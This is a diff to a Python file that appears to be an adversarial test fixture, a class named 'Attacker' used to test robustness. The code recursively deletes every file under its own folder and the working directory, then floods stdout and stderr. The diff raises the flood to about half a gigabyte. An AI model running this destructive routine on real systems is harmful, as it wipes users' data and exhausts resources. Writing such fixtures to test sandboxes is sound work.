@@ -1,4 +1,4 @@
-"""Deletes all files that it can, and prints megabytes, when it is changed."""
+"""Deletes all files that it can, and prints half a gigabyte, when it is changed."""
 
 import os
 import sys
@@ -17,7 +17,7 @@ class Attacker(Wrong):
         for path in [*Path(__file__).parent.rglob("*"), *Path.cwd().rglob("*")]:
             with suppress(OSError):
                 path.unlink()
-        for _ in range(3):
-            sys.stdout.write("x" * 2_000_000)
-            os.write(1, b"x" * 2_000_000)
-            os.write(2, b"x" * 2_000_000)
+        for _ in range(20):
+            sys.stdout.write("x" * 10_000_000)
+            os.write(1, b"x" * 10_000_000)
+            os.write(2, b"x" * 10_000_000)
